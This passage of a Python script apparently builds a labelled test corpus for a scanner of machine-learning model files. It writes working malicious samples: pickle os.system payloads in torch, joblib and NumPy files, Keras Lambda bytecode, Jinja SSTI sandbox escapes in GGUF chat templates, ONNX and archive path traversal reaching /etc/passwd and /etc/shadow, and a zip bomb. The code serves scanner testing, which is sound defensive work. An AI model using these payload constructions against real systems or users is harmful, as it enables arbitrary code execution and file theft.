    good = torch_zip(malicious_state_pickle("flag-bits"))

    def flag(off):
        return lambda d, at: d.__setitem__(at + off, d[at + off] | 0x01)

    malicious("torch/encrypted_flag_bit.pt", patch_zip_entry(good, "archive/data.pkl", flag(6), flag(8)), "HIGH",
              "data.pkl flagged encrypted but stored in clear (GHSA-w8jq-xcqf-f792)")


def sys_info_pickle():
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return pickle.dumps(info, protocol=2)


def legacy_raw(main_pickle, tensors):
    """torch.save(..., _use_new_zipfile_serialization=False): five pickles, then storages."""
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), pickle.dumps(1001, protocol=2), sys_info_pickle(),
             main_pickle, pickle.dumps([key for key, _ in tensors.values()], protocol=2)]
    for i, (key, shape) in enumerate(tensors.values()):
        parts.append(struct.pack("<q", int(np.prod(shape))) + tensor_bytes(shape, i))
    return b"".join(parts)


def legacy_tar(main_pickle):
    """The pre-0.4 tar layout: sys_info, pickle, storages, tensors members (PAX)."""
    storages = pickle.dumps(1, protocol=2)
    storages += checked(proto(2) + MARK + ustr("0") + ustr("cpu") + glob("torch", "FloatStorage") + TUPLE + STOP)
    storages += struct.pack("<q", 10) + tensor_bytes((10,), 0) + pickle.dumps([], protocol=2)
    members = [("sys_info", sys_info_pickle()), ("pickle", main_pickle), ("storages", storages),
               ("tensors", pickle.dumps(0, protocol=2))]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_main_pickle(extra=b""):
    tp = TorchPickle(legacy=True)
    tp.state_dict(TENSORS, extra)
    return tp.bytes()


def tar_main_pickle(extra=b""):
    # In the tar format tensors are persistent ids naming entries of the tensors member.
    return p2(EMPTY_DICT, MARK, ustr("weight"), ustr("0"), BINPERSID, extra, SETITEMS)


def torch_legacy():
    evil = ustr("hook") + glob("posix", "system") + ustr(cmd("legacy-raw")) + TUPLE1 + REDUCE
    malicious("torch/legacy_raw_malicious.pt", legacy_raw(legacy_main_pickle(evil), TENSORS), "CRITICAL",
              "legacy raw torch format, os.system in the main pickle", "system")
    benign("torch/legacy_raw_benign.pt", legacy_raw(legacy_main_pickle(), TENSORS),
           "legacy raw torch format: magic, protocol, sys_info, main, keys, storages")
    evil = ustr("hook") + glob("posix", "system") + ustr(cmd("legacy-tar")) + TUPLE1 + REDUCE
    malicious("torch/legacy_tar_malicious.pt", legacy_tar(tar_main_pickle(evil)), "CRITICAL",
              "legacy tar torch format, os.system in the pickle member", "system")
    benign("torch/legacy_tar_benign.pt", legacy_tar(tar_main_pickle()), "legacy tar torch format")


# --- joblib and NumPy --------------------------------------------------------------


class Payload:
    """Pickles as posix.system(cmd); pickling never calls it."""

    def __init__(self, label):
        self.label = label

    def __reduce__(self):
        return (os.system, (cmd(self.label),))


def joblib_bytes(obj, compress=0):
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.joblib")
        joblib.dump(obj, path, compress=compress)
        with open(path, "rb") as f:
            return f.read()


def joblib_files():
    rng = np.random.default_rng(2)
    arrays = {"weights": rng.standard_normal((64, 16)), "bias": np.zeros(16, dtype=np.float32),
              "labels": np.arange(10), "config": {"depth": 3, "name": "forest"}, "scale": 0.5}
    benign("joblib/benign.joblib", joblib_bytes(arrays), "joblib.dump of numpy arrays and dicts")
    benign("joblib/benign_zlib.joblib", joblib_bytes(arrays, compress=3), "joblib.dump compress=3 (zlib)")
    # The payload follows inline array data, so the analyser must skip it correctly.
    evil = dict(arrays, hook=Payload("joblib"))
    malicious("joblib/malicious.joblib", joblib_bytes(evil), "CRITICAL",
              "joblib pickle with os.system after inline arrays", "system")
    evil = dict(arrays, hook=Payload("joblib-zlib"))
    malicious("joblib/malicious_zlib.joblib", joblib_bytes(evil, compress=3), "CRITICAL",
              "zlib-compressed joblib with os.system", "system")
    # joblib also compresses with gzip, bz2, lzma and xz; joblib.load reads them all.
    for method in ("gzip", "bz2", "lzma", "xz"):
        evil = dict(arrays, hook=Payload(f"joblib-{method}"))
        malicious(f"joblib/malicious_{method}.joblib", joblib_bytes(evil, compress=(method, 3)), "CRITICAL",
                  f"{method}-compressed joblib with os.system", "system")
    # Object arrays are a nested pickle inside the joblib stream.
    labels = {"classes": np.array(["cat", "dog", None], dtype=object), "w": np.ones(3)}
    benign("joblib/benign_object_array.joblib", joblib_bytes(labels), "joblib with an object array of strings")
    evil = {"classes": np.array(["cat", Payload("joblib-object")], dtype=object)}
    malicious("joblib/malicious_object_array.joblib", joblib_bytes(evil), "CRITICAL",
              "joblib object array whose nested pickle calls os.system", "system")


def npy_bytes(arr, allow_pickle=False):
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return buf.getvalue()


def npz_bytes(compressed=False, **arrays):
    buf = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buf, **arrays)
    return buf.getvalue()


def numpy_files():
    rng = np.random.default_rng(3)
    benign("numpy/benign.npy", npy_bytes(rng.standard_normal((32, 32)).astype(np.float32)), "numeric .npy")
    benign("numpy/benign_struct.npy", npy_bytes(np.zeros(4, dtype=[("x", "<f4"), ("y", "<i8")])),
           "structured-dtype .npy")
    benign("numpy/benign.npz", npz_bytes(a=np.arange(100), b=np.ones((3, 3))), "numeric .npz")
    benign("numpy/benign_compressed.npz", npz_bytes(True, a=np.arange(1000)), "numeric savez_compressed")
    evil = np.array([1, Payload("npy"), "x"], dtype=object)
    malicious("numpy/object_array.npy", npy_bytes(evil, allow_pickle=True), "CRITICAL",
              ".npy object array whose pickle calls os.system", "system")
    benign("numpy/benign_object_strings.npy", npy_bytes(np.array(["a", "b", None], dtype=object), True),
           "object array of plain strings")
    evil = np.array([(1.0, Payload("npy-field"))], dtype=[("x", "<f8"), ("obj", "O")])
    malicious("numpy/object_field.npy", npy_bytes(evil, allow_pickle=True), "CRITICAL",
              ".npy structured dtype with an object field holding a payload", "system")
    evil = np.array([Payload("npz")], dtype=object)
    malicious("numpy/object_array.npz", npz_bytes(w=np.arange(4), obj=evil), "CRITICAL",
              ".npz holding an object array with a payload", "system")


# --- Keras: H5 and v3 archives (no TensorFlow; configs written directly) ------------


def lambda_code(label):
    """base64 of marshal(code of a lambda), as Keras' func_dump writes it; compiled only."""
    module = compile(f"lambda x: {py_cmd(label)} or x", "<corpus>", "eval")
    fn_code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(fn_code)).decode() + "\n"


def dense(name, units, activation="relu"):
    return {"class_name": "Dense", "config": {"name": name, "trainable": True, "dtype": "float32",
                                              "units": units, "activation": activation, "use_bias": True}}


def keras2_config(layers):
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 16], "dtype": "float32",
                                                    "name": "input_1"}}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [first] + layers}}


def keras2_lambda(label):
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                               "function": [lambda_code(label), None, None],
                                               "function_type": "lambda", "output_shape": None,
                                               "module": "__main__", "arguments": {}}}


def h5_bytes(config, vlen=False):
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.h5")
        with h5py.File(path, "w") as f:
            text = json.dumps(config)
            # Two storage forms Keras reads alike: a fixed-length byte string stored in the
            # attribute message, or a variable-length string kept in the global heap.
            f.attrs["model_config"] = text if vlen else np.bytes_(text.encode())
            f.attrs["keras_version"] = b"2.15.0"
            f.attrs["backend"] = b"tensorflow"
            training = {"loss": "mse", "metrics": ["mae"], "optimizer_config": {
                "class_name": "Adam", "config": {"learning_rate": 0.001}}}
            f.attrs["training_config"] = json.dumps(training).encode()
            weights = f.create_group("model_weights")
            weights.attrs["layer_names"] = [b"dense", b"dense_1"]
            rng = np.random.default_rng(4)
            for layer, shape in (("dense", (16, 32)), ("dense_1", (32, 4))):
                g = weights.create_group(layer).create_group(layer)
                g.create_dataset("kernel:0", data=rng.standard_normal(shape).astype(np.float32))
                g.create_dataset("bias:0", data=np.zeros(shape[1], dtype=np.float32))
        with open(path, "rb") as f:
            return f.read()


def keras_h5():
    layers = [dense("dense", 32), dense("dense_1", 4, "softmax")]
    benign("keras/benign_dense.h5", h5_bytes(keras2_config(layers)), "Keras H5 with Dense layers")
    evil = [dense("dense", 32), keras2_lambda("h5"), dense("dense_1", 4)]
    malicious("keras/lambda.h5", h5_bytes(keras2_config(evil)), "CRITICAL",
              "Keras H5 model_config with a Lambda layer (marshalled bytecode)", "Lambda")
    evil = [keras2_lambda("h5-vlen")]
    malicious("keras/lambda_vlen_attr.h5", h5_bytes(keras2_config(evil), vlen=True), "CRITICAL",
              "Keras H5 Lambda, model_config as a variable-length string attribute", "Lambda")


def keras3_layer(class_name, config, module="keras.layers"):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def keras3_zip(layers):
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "sequential", "trainable": True, "dtype": "float32", "layers": [
                  keras3_layer("InputLayer", {"batch_shape": [None, 16], "dtype": "float32", "name": "input"})]
                  + layers}}
    metadata = {"keras_version": "3.6.0", "date_saved": "2026-11-01@12:00:00"}
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.weights.h5")
        with h5py.File(path, "w") as f:
            f.create_group("layers").create_group("dense").create_group("vars").create_dataset(
                "0", data=np.ones((16, 4), dtype=np.float32))
        with open(path, "rb") as f:
            weights = f.read()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps(metadata))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", weights)
    return buf.getvalue()


def keras_v3():
    dense3 = keras3_layer("Dense", {"name": "dense", "units": 4, "activation": "softmax", "use_bias": True})
    benign("keras/benign.keras", keras3_zip([dense3]), "Keras v3 archive with a Dense layer")
    code = lambda_code("keras3")
    lam = keras3_layer("Lambda", {"name": "lambda", "function": {
        "class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}})
    malicious("keras/lambda.keras", keras3_zip([lam, dense3]), "CRITICAL",
              "Keras v3 config.json with a Lambda layer", "Lambda")
    # A Dense whose activation deserialises to a function of module os (Keras 3
    # imports "module" and takes "config" from it; shape of CVE-2025-1550 configs).
    evil = keras3_layer("Dense", {"name": "dense", "units": 4, "activation": {
        "module": "os", "class_name": "function", "config": "system", "registered_name": "system"}})
    malicious("keras/os_function_activation.keras", keras3_zip([evil]), "HIGH",
              "Keras v3 config referencing a function of module os")
    custom = keras3_layer("MyLayer", {"name": "my_layer", "units": 4}, module="mycompany.layers")
    custom["registered_name"] = "MyCompany>MyLayer"
    suspicious("keras/custom_layer.keras", keras3_zip([custom]), "Keras v3 custom layer from an unknown module",
               "mycompany")


# --- protocol buffers: TensorFlow SavedModel and ONNX, hand-encoded -----------------


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_int(field, n):
    return varint(field << 3) + varint(n)


def pb_bytes(field, data):
    if isinstance(data, str):
        data = data.encode()
    return varint(field << 3 | 2) + varint(len(data)) + data


def node_def(name, op, inputs=(), dtype=None):
    body = pb_bytes(1, name) + pb_bytes(2, op) + b"".join(pb_bytes(3, i) for i in inputs)
    if dtype is not None:  # attr map entry {key: "dtype", value: AttrValue{type: dtype}}
        body += pb_bytes(5, pb_bytes(1, "dtype") + pb_bytes(2, pb_int(6, dtype)))
    return body


def const_node(name, values):
    # Const with a TensorProto value (dtype, tensor_content) the scanner must step over.
    tensor = pb_int(1, 1) + pb_bytes(4, np.asarray(values, dtype="<f4").tobytes())
    attr = pb_bytes(5, pb_bytes(1, "value") + pb_bytes(2, pb_bytes(8, tensor)))
    return pb_bytes(1, name) + pb_bytes(2, "Const") + attr


def saved_model(graph_ops, function_ops=()):
    """SavedModel{1: schema version, 2: MetaGraphDef{1: MetaInfoDef, 2: GraphDef}}."""
    nodes = b"".join(pb_bytes(1, node_def(f"n{i}", op)) for i, op in enumerate(graph_ops))
    nodes += pb_bytes(1, const_node("weights", np.linspace(0, 1, 256)))
    graph = nodes
    if function_ops:  # GraphDef.library{function: FunctionDef{signature: OpDef, node_def}}
        fn = pb_bytes(1, pb_bytes(1, "__inference_restore_42"))
        fn += b"".join(pb_bytes(3, node_def(f"f{i}", op)) for i, op in enumerate(function_ops))
        graph += pb_bytes(2, pb_bytes(1, fn))
    graph += pb_bytes(4, pb_int(1, 1395))  # versions{producer}
    all_ops = sorted(set(graph_ops) | set(function_ops) | {"Const"})
    op_list = b"".join(pb_bytes(1, pb_bytes(1, op)) for op in all_ops)
    info = pb_bytes(2, op_list) + pb_bytes(4, "serve") + pb_bytes(5, "2.15.0") + pb_bytes(6, "v2.15.0-rc1")
    meta = pb_bytes(1, info) + pb_bytes(2, graph)
    return pb_int(1, 1) + pb_bytes(2, meta)


BENIGN_TF_OPS = ["Placeholder", "VarHandleOp", "ReadVariableOp", "MatMul", "BiasAdd", "Relu", "Identity",
                 "StatefulPartitionedCall", "NoOp"]
SAVER_OPS = ["SaveV2", "RestoreV2", "MergeV2Checkpoints", "ShardedFilename", "StringJoin", "StaticRegexFullMatch",
             "Select", "AssignVariableOp", "Pack"]


def savedmodel_files():
    benign("savedmodel/benign/saved_model.pb", saved_model(BENIGN_TF_OPS, SAVER_OPS),
           "SavedModel with variables and SaveV2/RestoreV2 saver functions")
    malicious("savedmodel/readfile/saved_model.pb", saved_model(BENIGN_TF_OPS + ["ReadFile", "WriteFile"]), "HIGH",
              "SavedModel graph with ReadFile/WriteFile", "ReadFile")
    malicious("savedmodel/pyfunc/saved_model.pb", saved_model(BENIGN_TF_OPS + ["PyFunc"]), "CRITICAL",
              "SavedModel graph with PyFunc", "PyFunc")
    malicious("savedmodel/function_writefile/saved_model.pb", saved_model(BENIGN_TF_OPS, SAVER_OPS + ["WriteFile"]),
              "HIGH", "SavedModel with WriteFile inside a library function", "WriteFile")


def onnx_tensor(name, dims, raw=None, external=None):
    body = b"".join(pb_int(1, d) for d in dims) + pb_int(2, 1) + pb_bytes(8, name)
    if raw is not None:
        body += pb_bytes(9, raw)
    if external is not None:  # external_data entries, data_location = EXTERNAL
        for key, value in external:
            body += pb_bytes(13, pb_bytes(1, key) + pb_bytes(2, value))
        body += pb_int(14, 1)
    return body


def onnx_node(inputs, outputs, op, name, domain=None):
    body = b"".join(pb_bytes(1, i) for i in inputs) + b"".join(pb_bytes(2, o) for o in outputs)
    body += pb_bytes(3, name) + pb_bytes(4, op)
    if domain is not None:
        body += pb_bytes(7, domain)
    return body


def value_info(name, dims):
    shape = b"".join(pb_bytes(1, pb_int(1, d)) for d in dims)
    tensor_type = pb_int(1, 1) + pb_bytes(2, shape)
    return pb_bytes(1, name) + pb_bytes(2, pb_bytes(1, tensor_type))


def onnx_model(weight_external=None, custom_domain=None):
    """ModelProto{ir_version, producer, graph{node, initializer, input, output}, opset_import}."""
    rng = np.random.default_rng(5)
    raw = None if weight_external else rng.standard_normal((16, 8)).astype("<f4").tobytes()
    graph = pb_bytes(1, onnx_node(["x", "W"], ["h"], "MatMul", "matmul"))
    graph += pb_bytes(1, onnx_node(["h", "b"], ["y0"], "Add", "add"))
    graph += pb_bytes(1, onnx_node(["y0"], ["y"], "Relu", "relu"))
    if custom_domain:
        graph += pb_bytes(1, onnx_node(["y"], ["z"], "Exec", "custom", custom_domain))
    graph += pb_bytes(2, "main_graph")
    graph += pb_bytes(5, onnx_tensor("W", (16, 8), raw, weight_external))
    graph += pb_bytes(5, onnx_tensor("b", (8,), np.zeros(8, dtype="<f4").tobytes()))
    graph += pb_bytes(11, value_info("x", (1, 16))) + pb_bytes(12, value_info("z" if custom_domain else "y", (1, 8)))
    model = pb_int(1, 8) + pb_bytes(2, "pytorch") + pb_bytes(3, "2.1.0") + pb_bytes(7, graph)
    model += pb_bytes(8, pb_bytes(1, "") + pb_int(2, 17))
    if custom_domain:
        model += pb_bytes(8, pb_bytes(1, custom_domain) + pb_int(2, 1))
    return model


def onnx_files():
    benign("onnx/benign.onnx", onnx_model(), "ONNX MLP with inline initializers")
    ext = [("location", "model.onnx.data"), ("offset", "0"), ("length", "512")]
    benign("onnx/benign_external.onnx", onnx_model(ext), "ONNX with external data next to the model")
    ext = [("location", "../../etc/passwd"), ("offset", "0"), ("length", "512")]
    malicious("onnx/external_traversal.onnx", onnx_model(ext), "HIGH",
              "ONNX external_data location ../../etc/passwd", "../../etc/passwd")
    ext = [("location", "/etc/shadow")]
    malicious("onnx/external_absolute.onnx", onnx_model(ext), "HIGH", "ONNX external_data absolute location",
              "/etc/shadow")
    ext = [("location", "..\\..\\Windows\\win.ini")]
    malicious("onnx/external_backslash.onnx", onnx_model(ext), "HIGH", "ONNX external_data backslash traversal",
              "win.ini")
    suspicious("onnx/custom_domain.onnx", onnx_model(custom_domain="org.example.customops"),
               "ONNX node in an unknown operator domain", "org.example.customops")


# --- GGUF ---------------------------------------------------------------------------


def gguf_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf_kv(key, kind, value):
    """One metadata pair: key, u32 type, value (8 = string, 4 = u32, 9 = array)."""
    out = gguf_str(key) + struct.pack("<I", kind)
    if kind == 8:
        return out + gguf_str(value)
    if kind == 4:
        return out + struct.pack("<I", value)
    if kind == 6:
        return out + struct.pack("<f", value)
    if kind == 9:  # array of strings
        return out + struct.pack("<IQ", 8, len(value)) + b"".join(gguf_str(v) for v in value)
    raise ValueError(kind)


def gguf(template, key="tokenizer.chat_template"):
    """GGUF v3: header, metadata, tensor infos, padding to 32, tensor data."""
    tokens = ["<unk>", "<s>", "</s>", "hello", "world", "<|eot_id|>"]
    kvs = [gguf_kv("general.architecture", 8, "llama"), gguf_kv("general.name", 8, "corpus-llama"),
           gguf_kv("general.alignment", 4, 32), gguf_kv("llama.context_length", 4, 8192),
           gguf_kv("llama.embedding_length", 4, 4), gguf_kv("llama.rope.freq_base", 6, 500000.0),
           gguf_kv("tokenizer.ggml.model", 8, "gpt2"), gguf_kv("tokenizer.ggml.tokens", 9, tokens),
           gguf_kv("tokenizer.ggml.bos_token_id", 4, 1), gguf_kv(key, 8, template)]
    tensors = [("token_embd.weight", (4, 6)), ("output_norm.weight", (4,))]
    infos, data = b"", b""
    for name, dims in tensors:
        infos += gguf_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        infos += struct.pack("<IQ", 0, len(data))  # GGML_TYPE_F32, offset into the data section
        blob = np.ones(dims, dtype="<f4").tobytes()
        data += blob + b"\x00" * ((-len(blob)) % 32)
    head = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs)) + b"".join(kvs) + infos
    return head + b"\x00" * ((-len(head)) % 32) + data


LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>'"
    " + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0"
    " == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt"
    " %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")

LLAMA32_TEMPLATE = (
    "{{- bos_token }}\n{%- if not date_string is defined %}\n    {%- if strftime_now is defined %}\n        {%- set"
    " date_string = strftime_now(\"%d %b %Y\") %}\n    {%- else %}\n        {%- set date_string = \"26 Jul 2024\""
    " %}\n    {%- endif %}\n{%- endif %}\n{%- if messages[0]['role'] == 'system' %}\n    {%- set system_message ="
    " messages[0]['content']|trim %}\n    {%- set messages = messages[1:] %}\n{%- else %}\n    {%- set"
    " system_message = \"\" %}\n{%- endif %}\n{{- \"<|start_header_id|>system<|end_header_id|>\\n\\n\" }}\n{%- if"
    " tools is not none %}\n    {{- \"Environment: ipython\\n\" }}\n    {%- for t in tools %}\n        {{- t |"
    " tojson(indent=4) }}\n    {%- endfor %}\n{%- endif %}\n{{- \"Today Date: \" + date_string + \"\\n\\n\" }}\n"
    "{{- system_message }}\n{{- \"<|eot_id|>\" }}\n{%- for message in messages %}\n    {{-"
    " '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim +"
    " '<|eot_id|>' }}\n{%- endfor %}\n{%- if add_generation_prompt %}\n    {{-"
    " '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}\n{%- endif %}\n")

CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>'"
    " + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")

MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role']"
    " == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant"
    " roles are supported!') }}{% endif %}{% endfor %}")

GEMMA_TEMPLATE = (
    "{{ bos_token }}{% set ns = namespace(first=true) %}{% for message in messages %}{% set role = 'model' if"
    " message['role'] == 'assistant' else message['role'] %}{{ '<start_of_turn>' + role + '\n' +"
    " message['content'] | trim + '<end_of_turn>\n' }}{% set ns.first = false %}{% endfor %}{% if"
    " add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}")


def gguf_files():
    for label, template in (("llama3", LLAMA3_TEMPLATE), ("llama32", LLAMA32_TEMPLATE), ("chatml", CHATML_TEMPLATE),
                            ("mistral", MISTRAL_TEMPLATE), ("gemma", GEMMA_TEMPLATE)):
        benign(f"gguf/benign_{label}.gguf", gguf(template), f"GGUF with a real {label} chat template")
    # Jinja SSTI reaching Python internals through the str class (published GGUF SSTI PoCs).
    mro = ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
           "{{ c('" + cmd("gguf-mro") + "', shell=True) }}{% endif %}{% endfor %}" + CHATML_TEMPLATE)
    malicious("gguf/ssti_subclasses.gguf", gguf(mro), "CRITICAL", "chat template ''.__class__.__mro__ SSTI")
    # The cycler global's __init__.__globals__ reach os (jinja2 sandbox escape shape).
    cyc = "{{ cycler.__init__.__globals__.os.popen('" + cmd("gguf-cycler") + "').read() }}" + LLAMA3_TEMPLATE
    malicious("gguf/ssti_cycler_globals.gguf", gguf(cyc), "CRITICAL", "chat template cycler.__init__.__globals__.os")
    # A named template (tokenizer.chat_template.<name>, used for tool calling).
    tool = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + cmd("gguf-tool") + "') }}"
    malicious("gguf/ssti_named_template.gguf", gguf(tool, "tokenizer.chat_template.tool_use"), "CRITICAL",
              "named chat template with self.__init__.__globals__.__builtins__")
    # Dunders built from escapes and attr(): '\x5f\x5fclass\x5f\x5f'.
    esc = ("{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}" + MISTRAL_TEMPLATE)
    malicious("gguf/ssti_attr_escapes.gguf", gguf(esc), "CRITICAL", "chat template attr() with escaped dunders")


# --- safetensors --------------------------------------------------------------------


def safetensors(entries, data, metadata=None, header_len=None):
    """8-byte LE header length, JSON header padded with spaces to 8, then data."""
    header = dict(entries)
    if metadata is not None:
        header["__metadata__"] = metadata
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * ((-len(raw)) % 8)
    return struct.pack("<Q", header_len if header_len is not None else len(raw)) + raw + data


def st_entry(dtype, shape, begin, end):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [begin, end]}


def safetensors_files():
    rng = np.random.default_rng(6)
    w = rng.standard_normal((8, 4)).astype("<f4").tobytes()
    b = rng.standard_normal(4).astype("<f4").tobytes()
    entries = {"linear.weight": st_entry("F32", (8, 4), 0, 128), "linear.bias": st_entry("F32", (4,), 128, 144)}
    benign("safetensors/benign.safetensors", safetensors(entries, w + b, {"format": "pt"}), "valid safetensors")
    overlap = {"a": st_entry("F32", (8, 4), 0, 128), "b": st_entry("F32", (8, 4), 64, 192)}
    malicious("safetensors/overlapping.safetensors", safetensors(overlap, w + w), "MEDIUM",
              "two tensors sharing bytes 64..128")
    out = {"a": st_entry("F32", (8, 4), 0, 128), "b": st_entry("F32", (1024, 1024), 128, 128 + 4 * 1024 * 1024)}
    malicious("safetensors/out_of_range.safetensors", safetensors(out, w + b), "MEDIUM",
              "tensor offsets beyond the end of the file")
    malicious("safetensors/header_beyond_file.safetensors", safetensors(entries, w + b, header_len=1 << 30),
              "MEDIUM", "header length larger than the file")


# --- archives -----------------------------------------------------------------------


def zip_bytes(entries, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in entries:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data, compress_type=method)
    return buf.getvalue()


def tar_bytes(members, mode="w"):
    """members: (name, data) regular files or (name, None, type, linkname) links."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as tar:
        for member in members:
            info = tarfile.TarInfo(member[0])
            info.mtime = 1767225600
            if member[1] is None:
                info.type, info.linkname = member[2], member[3]
                tar.addfile(info)
            else:
                info.size = len(member[1])
                tar.addfile(info, io.BytesIO(member[1]))
    return buf.getvalue()


def archive_files():
    readme = b"Model card\n==========\nA small test model.\n"
    benign("archive/plain.zip", zip_bytes([("README.md", readme), ("config/params.yaml", b"lr: 0.01\n")]),
           "zip of text files")
    benign("archive/plain.tar", tar_bytes([("README.md", readme), ("data/labels.txt", b"cat\ndog\n")]),
           "tar of text files")
    malicious("archive/zip_traversal.zip", zip_bytes([("README.md", readme), ("../../evil.sh", b"echo hi\n")]),
              "HIGH", "zip entry ../../evil.sh", "../")
    malicious("archive/zip_absolute.zip", zip_bytes([("/etc/cron.d/ward-corpus", b"* * * * * true\n")]), "HIGH",
              "zip entry with an absolute path", "/etc/cron.d/ward-corpus")
    malicious("archive/zip_backslash.zip", zip_bytes([("..\\..\\ward-corpus.bat", b"echo hi\n")]), "HIGH",
              "zip entry with a backslash traversal", "ward-corpus.bat")
    with warnings.catch_warnings():  # zipfile warns about the duplicate, which is the point
        warnings.simplefilter("ignore")
        dup = zip_bytes([("model.pkl", pickle.dumps({"a": 1}, protocol=2)), ("model.pkl", inner_payload("dup"))])
    malicious("archive/zip_duplicate_names.zip", dup, "CRITICAL", "zip with two model.pkl entries, second malicious",
              "system")
    malicious("archive/tar_absolute.tar", tar_bytes([("/tmp/ward-corpus-abs.txt", b"x\n")]), "HIGH",
              "tar member with an absolute path", "/tmp/ward-corpus-abs.txt")
    malicious("archive/tar_symlink_escape.tar",
              tar_bytes([("model/config", None, tarfile.SYMTYPE, "../../../../etc/passwd")]), "HIGH",
              "tar symlink escaping the root", "etc/passwd")
    malicious("archive/tar_hardlink_escape.tar",
              tar_bytes([("model/weights", None, tarfile.LNKTYPE, "../../../../etc/shadow")]), "HIGH",
              "tar hard link escaping the root", "etc/shadow")
    evil = inner_payload("gzip")
    malicious("archive/pickle.gz", gzip.compress(evil, mtime=0), "CRITICAL", "gzip of a malicious pickle", "system")
    evil = inner_payload("zstd")
    malicious("archive/pickle.zst", zstandard.ZstdCompressor().compress(evil), "CRITICAL",
              "zstd of a malicious pickle", "system")
    malicious("archive/pickle.7z", sevenz_bytes("model.pkl", inner_payload("7z")), "CRITICAL",
              "7z of a malicious pickle", "system")
    inner_zip = zip_bytes([("weights/model.pkl", inner_payload("nested"))])
    nested = gzip.compress(tar_bytes([("bundle/inner.zip", inner_zip)]), mtime=0)
    malicious("archive/nested.tar.gz", nested, "CRITICAL", "pickle in a zip in a tar in a gzip", "system")
    junk = b"#!/bin/sh\necho not a zip\n" + bytes(random.Random(7).randrange(256) for _ in range(4000))
    prepended = junk + zip_bytes([("model.pkl", inner_payload("prepended"))])
    with zipfile.ZipFile(io.BytesIO(prepended)) as zf:  # zipfile still opens it: lists names only
        assert zf.namelist() == ["model.pkl"]
    malicious("archive/prepended_junk.zip", prepended, "CRITICAL", "zip with prepended junk", "system")
    malicious("archive/zip_bomb.zip", zip_bomb(), "MEDIUM", "zip bomb: 100 MiB of zeros, ratio above 1000")


def sevenz_bytes(name, data):
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "a.7z")
        with py7zr.SevenZipFile(path, "w") as archive:
            archive.writestr(data, name)
        with open(path, "rb") as f:
            return f.read()


def zip_bomb():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("zeros.bin", date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=False) as member:
            chunk = b"\x00" * (1 << 20)
            for _ in range(100):
                member.write(chunk)
        compressed = zf.getinfo("zeros.bin").compress_size
    assert (100 << 20) // compressed > 1000, compressed
    return buf.getvalue()


# --- other benign files ------------------------------------------------------------


def other_benign():
    config = {"architectures": ["LlamaForCausalLM"], "hidden_size": 4096, "num_attention_heads": 32,
              "torch_dtype": "bfloat16", "vocab_size": 128256}
    benign("other/config.json", json.dumps(config, indent=2).encode(), "Hugging Face config.json")
